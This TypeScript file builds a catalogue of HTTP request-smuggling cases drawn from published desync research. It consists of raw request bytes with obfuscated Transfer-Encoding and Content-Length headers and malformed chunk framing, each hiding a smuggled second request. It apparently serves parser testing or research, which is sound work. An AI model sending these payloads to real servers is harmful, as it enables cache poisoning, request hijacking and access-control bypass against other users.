/**
 * Known ways to make two servers disagree about where a request ends: the case lists of published research, written down anew.
 * Linhart et al., HTTP Request Smuggling (2005); Kettle, HTTP Desync Attacks (2019), Browser-Powered Desync Attacks (2022),
 * HTTP/1.1 Must Die (2025); Gil, Chunk extension confusion (TERM.EXT, EXT.TERM, 2025); RFC 9112 section 11.2.
 */

/** The name of a case, and the bytes of one connection. */
export type ByteCase = readonly [name: string, bytes: string]

/** Sent behind each case: what is taken for a part of the request before it is seen by its absence. */
export const smuggled = 'GET /smuggled HTTP/1.1\r\nHost: shop\r\n\r\n'

const post = (fields: string, body: string): string => `POST /first HTTP/1.1\r\nHost: shop\r\n${fields}\r\n\r\n${body}`
const hex = smuggled.length.toString(16)
const ended = `0\r\n\r\n${smuggled}`

/** Spellings of `Transfer-Encoding: chunked` that one server takes for it and another does not. */
const codings: Record<string, string> = {
  'a tail': 'Transfer-Encoding: xchunked',
  'a space before the colon': 'Transfer-Encoding : chunked',
  'a tab before the colon': 'Transfer-Encoding\t: chunked',
  'a tab behind the colon': 'Transfer-Encoding:\tchunked',
  'no space behind the colon': 'Transfer-Encoding:chunked',
  'a space at the line\'s beginning': ' Transfer-Encoding: chunked',
  'small letters': 'transfer-encoding: chunked',
  'capitals': 'TRANSFER-ENCODING: CHUNKED',
  'a vertical tab before the value': 'Transfer-Encoding: \x0bchunked',
  'a form feed behind the value': 'Transfer-Encoding: chunked\x0c',
  'a NUL before the value': 'Transfer-Encoding: \x00chunked',
  'a NUL in the name': 'Transfer-Encoding\x00: chunked',
  'a no-break space': 'Transfer-Encoding:\xa0chunked',
  'a next-line character': 'Transfer-Encoding:\x85chunked',
  'a byte above ASCII behind the name': 'Transfer-Encoding\xff: chunked',
  'double quotes': 'Transfer-Encoding: "chunked"',
  'single quotes': 'Transfer-Encoding: \'chunked\'',
  'a comma before': 'Transfer-Encoding: ,chunked',
  'a comma behind': 'Transfer-Encoding: chunked,',
  'identity before': 'Transfer-Encoding: identity, chunked',
  'identity behind': 'Transfer-Encoding: chunked, identity',
  'gzip before': 'Transfer-Encoding: gzip, chunked',
  'an unknown coding before': 'Transfer-Encoding: cow, chunked',
  'an unknown coding behind': 'Transfer-Encoding: chunked, cow',
  'a parameter': 'Transfer-Encoding: chunked;q=1',
  'twice in a line': 'Transfer-Encoding: chunked, chunked',
  'a space inside': 'Transfer-Encoding: chun ked',
  'a folded value': 'Transfer-Encoding:\r\n chunked',
  'a folded value with a tab': 'Transfer-Encoding:\r\n\tchunked',
  'a value folded by a bare LF': 'Transfer-Encoding:\n chunked',
  'a bare LF before the colon': 'Transfer-Encoding\n: chunked',
  'an underscore': 'Transfer_Encoding: chunked',
  'an escape in the name': 'Transfer%2dEncoding: chunked',
  'behind a bare LF': 'X-A: 1\nTransfer-Encoding: chunked',
  'behind a bare CR': 'X-A: 1\rTransfer-Encoding: chunked',
  'behind a CR at the line\'s beginning': 'X-A: 1\r\n\rTransfer-Encoding: chunked',
  'behind a fold': 'X-A: 1\r\n Transfer-Encoding: chunked',
  'a line of another coding before': 'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'a line of another coding behind': 'Transfer-Encoding: chunked\r\nTransfer-Encoding: cow',
  'two lines': 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'an empty line of it before': 'Transfer-Encoding:\r\nTransfer-Encoding: chunked',
  'nominated away by Connection': 'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
  'as a content coding': 'Content-Encoding: chunked'
}

const lengths: Record<string, (size: number) => string> = {
  'a sign': (size) => `Content-Length: +${size}`,
  'a minus': (size) => `Content-Length: -${size}`,
  'minus zero': () => 'Content-Length: -0',
  'leading zeros': (size) => `Content-Length: 000${size}`,
  'hexadecimal': (size) => `Content-Length: 0x${size.toString(16)}`,
  'a fraction': (size) => `Content-Length: ${size}.0`,
  'an exponent': () => 'Content-Length: 4e1',
  'an underscore': (size) => `Content-Length: ${String(size)[0] ?? ''}_${String(size).slice(1)}`,
  'a space inside': (size) => `Content-Length: ${String(size)[0] ?? ''} ${String(size).slice(1)}`,
  'a tab before': (size) => `Content-Length:\t${size}`,
  'a space before the colon': (size) => `Content-Length : ${size}`,
  'a vertical tab before': (size) => `Content-Length: \x0b${size}`,
  'a form feed behind': (size) => `Content-Length: ${size}\x0c`,
  'a NUL behind': (size) => `Content-Length: ${size}\x00`,
  'quotes': (size) => `Content-Length: "${size}"`,
  'nothing': () => 'Content-Length:',
  'a superscript digit': () => 'Content-Length: \xb2',
  'beyond 64 bits': (size) => `Content-Length: ${18446744073709551616n + BigInt(size)}`,
  'beyond 63 bits': (size) => `Content-Length: ${9223372036854775808n + BigInt(size)}`,
  'a list of equals': (size) => `Content-Length: ${size}, ${size}`,
  'a list, the first zero': (size) => `Content-Length: 0, ${size}`,
  'two lines of equals': (size) => `Content-Length: ${size}\r\nContent-Length: ${size}`,
  'two lines, the first zero': (size) => `Content-Length: 0\r\nContent-Length: ${size}`,
  'two lines, the second zero': (size) => `Content-Length: ${size}\r\nContent-Length: 0`,
  'two lines in other letters': (size) => `content-length: 0\r\nCONTENT-LENGTH: ${size}`,
  'an underscore in the name': (size) => `Content_Length: ${size}`,
  'folded': (size) => `Content-Length:\r\n ${size}`,
  'behind a bare LF': (size) => `X-A: 1\nContent-Length: ${size}`,
  'nominated away by Connection': (size) => `Connection: close, Content-Length\r\nContent-Length: ${size}`,
  'named as trailer': (size) => `Trailer: Content-Length\r\nContent-Length: ${size}`
}

/** Chunks that end elsewhere for one server than for another. All stand behind a well-formed head. */
const chunks: Record<string, string> = {
  'TERM.EXT: a bare LF ends the extension': `2;\nxx\r\n${hex}\r\n${smuggled}\r\n${ended}`,
  'EXT.TERM: a bare LF in the extension': `5;a\nx\r\nhello\r\n${ended}`,
  'a bare CR in the extension': `5;a\rx\r\nhello\r\n${ended}`,
  'a bare CR ends the extension': `2;\rxx\r\n${ended}`,
  'TERM.SPILL: a bare LF ends the data': `5\r\nhello\n${ended}`,
  'SPILL.TERM: two wrong bytes end the data': `5\r\nhelloXX${ended}`,
  'one wrong byte ends the data': `5\r\nhello\rX${ended}`,
  'no end of the data': `5\r\nhello${ended}`,
  'a bare CR ends the data': `5\r\nhello\r${ended}`,
  'two CR end the data': `5\r\nhello\r\r\n${ended}`,
  'a bare LF ends the size': `5\nhello\r\n${ended}`,
  'a bare CR ends the size': `5\rhello\r\n${ended}`,
  'a size with 0x': `0x5\r\nhello\r\n${ended}`,
  'a size with a sign': `+5\r\nhello\r\n${ended}`,
  'a negative size': `-5\r\nhello\r\n${ended}`,
  'a space before the size': ` 5\r\nhello\r\n${ended}`,
  'a space behind the size': `5 \r\nhello\r\n${ended}`,
  'a tab behind the size': `5\t\r\nhello\r\n${ended}`,
  'a vertical tab behind the size': `5\x0b\r\nhello\r\n${ended}`,
  'a NUL behind the size': `5\x00\r\nhello\r\n${ended}`,
  'an underscore in the size': `0_5\r\nhello\r\n${ended}`,
  'leading zeros': `0005\r\nhello\r\n${ended}`,
  'a size beyond 64 bits': `10000000000000005\r\nhello\r\n${ended}`,
  'the largest size of 64 bits': `ffffffffffffffff\r\nhello\r\n${ended}`,
  'no size': `\r\nhello\r\n${ended}`,
  'an extension without size': `;a=b\r\nhello\r\n${ended}`,
  'an extension': `5;a=b\r\nhello\r\n${ended}`,
  'an extension with a quoted value': `5;a="b;c"\r\nhello\r\n${ended}`,
  'an extension with a line end in quotes': `5;a="\r\nhello\r\n${ended}"`,
  'an extension without name': `5;\r\nhello\r\n${ended}`,
  'an extension with a NUL': `5;a=\x00\r\nhello\r\n${ended}`,
  'an extension on the last chunk': `5\r\nhello\r\n0;a=b\r\n\r\n${smuggled}`,
  'a bare LF ends the last size': `5\r\nhello\r\n0\n\r\n${smuggled}`,
  'a bare LF ends the trailers': `5\r\nhello\r\n0\r\n\n${smuggled}`,
  'bare LFs end it all': `5\nhello\n0\n\n${smuggled}`,
  'a CR too many behind the last size': `5\r\nhello\r\n0\r\r\n${smuggled}`,
  'many zeros for the last size': `5\r\nhello\r\n000000\r\n\r\n${smuggled}`,
  'a trailer': `5\r\nhello\r\n0\r\nX-Trailer: 1\r\n\r\n${smuggled}`,
  'a Content-Length as trailer': `5\r\nhello\r\n0\r\nContent-Length: 30\r\n\r\n${smuggled}`,
  'a Transfer-Encoding as trailer': `5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n${smuggled}`,
  'a Host as trailer': `5\r\nhello\r\n0\r\nHost: other\r\n\r\n${smuggled}`,
  'a bare LF in the trailers': `5\r\nhello\r\n0\r\nX-A: 1\nX-B: 2\r\n\r\n${smuggled}`,
  'a folded trailer': `5\r\nhello\r\n0\r\nX-A: 1\r\n 2\r\n\r\n${smuggled}`,
  'a trailer without colon': `5\r\nhello\r\n0\r\n${smuggled}`,
  'a NUL in a trailer': `5\r\nhello\r\n0\r\nX-A: \x00\r\n\r\n${smuggled}`
}

export const framingCases: readonly ByteCase[] = [
  ...Object.entries(codings).flatMap(([name, field]): ByteCase[] => [
    [`CL.TE, ${name}`, post(`Content-Length: ${ended.length}\r\n${field}`, ended)],
    [`TE.CL, ${name}`, post(`${field}\r\nContent-Length: 4`, `${hex}\r\n${smuggled}\r\n0\r\n\r\n`)],
    [`TE.0, ${name}`, post(field, `${hex}\r\n${smuggled}\r\n0\r\n\r\n`)]
  ]),
  ...Object.entries(lengths).flatMap(([name, field]): ByteCase[] => [
    [`CL.0, ${name}`, post(field(smuggled.length), smuggled)],
    [`0.CL, ${name}`, `GET /first HTTP/1.1\r\nHost: shop\r\n${field(smuggled.length)}\r\n\r\n${smuggled}`]
  ]),
  ...Object.entries(chunks).map(([name, body]): ByteCase => [`chunks, ${name}`, post('Transfer-Encoding: chunked', body)])
]
